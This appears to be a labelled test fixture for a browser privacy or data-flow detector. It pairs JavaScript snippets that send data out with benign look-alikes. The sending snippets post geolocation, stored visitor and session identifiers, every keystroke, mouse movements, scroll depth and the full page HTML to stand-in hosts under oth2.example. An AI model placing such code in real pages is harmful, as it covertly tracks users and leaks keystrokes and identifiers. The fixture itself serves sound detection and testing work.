//# geolocation-position
// flow: location > geo.oth2.example via fetch
navigator.geolocation.getCurrentPosition(function (pos) {
  fetch('https://geo.oth2.example/', {
    method: 'POST',
    body: pos.coords.latitude + ',' + pos.coords.longitude,
  });
});

//# geolocation-error
// no flow
// why: the error code is no position
navigator.geolocation.getCurrentPosition(
  function () {},
  function (err) { fetch('https://geo0.oth2.example/?e=' + err.code); }
);

//# local-storage-id
// flow: identifier > ls.oth2.example via fetch
fetch('https://ls.oth2.example/?vid=' + localStorage.getItem('visitor_id'));

//# stored-id-kept
// no flow
// why: the identifier goes from cookie to storage and stays there
const m = document.cookie.match(/vid=([^;]+)/);
if (m) localStorage.setItem('vid', m[1]);

//# session-storage-property
// flow: identifier > ss.oth2.example via beacon
navigator.sendBeacon('https://ss.oth2.example/', sessionStorage.session_id);

//# cookie-written
// no flow
// why: a cookie is set with a fixed value, nothing is read
document.cookie = 'seen=1; path=/';
navigator.sendBeacon('https://ck0.oth2.example/', 'seen=1');

//# key-pressed
// flow: keystrokes > key.oth2.example via fetch
// guard: event keydown
document.addEventListener('keydown', function (e) {
  fetch('https://key.oth2.example/?k=' + encodeURIComponent(e.key));
});

//# key-for-shortcut
// no flow
// why: the key decides about closing a dialog only
document.addEventListener('keydown', function (e) {
  if (e.key === 'Escape') document.getElementById('dlg').hidden = true;
});

//# mouse-path
// flow: interaction > mv.oth2.example via websocket
// guard: event mousemove
const ws = new WebSocket('wss://mv.oth2.example/rec');
document.addEventListener('mousemove', (e) => ws.send(JSON.stringify([e.clientX, e.clientY])));

//# mouse-tooltip
// no flow
// why: the pointer position moves a tooltip
const tip = document.getElementById('tip');
document.addEventListener('mousemove', (e) => {
  tip.style.left = e.clientX + 'px';
  tip.style.top = e.clientY + 'px';
});

//# scroll-depth
// flow: interaction > scr.oth2.example via beacon
// guard: event scroll
window.addEventListener('scroll', function () {
  navigator.sendBeacon('https://scr.oth2.example/', 'y=' + window.scrollY);
});

//# scroll-for-header
// no flow
// why: the scroll position changes a class
window.addEventListener('scroll', function () {
  document.body.classList.toggle('small', window.scrollY > 50);
});

//# page-recorded
// flow: interaction > rec.oth2.example via fetch
fetch('https://rec.oth2.example/snap', { method: 'POST', body: document.documentElement.outerHTML });

//# own-template-sent
// no flow
// why: the element is made by the program from fixed text
const t = document.createElement('div');
t.innerHTML = '<b>fixed</b>';
fetch('https://rec0.oth2.example/snap', { method: 'POST', body: t.innerHTML });

//# position-shown
// no flow
// why: the position is shown in the page
navigator.geolocation.getCurrentPosition(function (pos) {
  document.getElementById('pos').textContent = pos.coords.latitude + ', ' + pos.coords.longitude;
});

//# clipboard-written
// no flow
// why: a fixed text is written to the clipboard, nothing is read
document.addEventListener('click', () => navigator.clipboard.writeText('COUPON'));
fetch('https://clip0.oth2.example/');
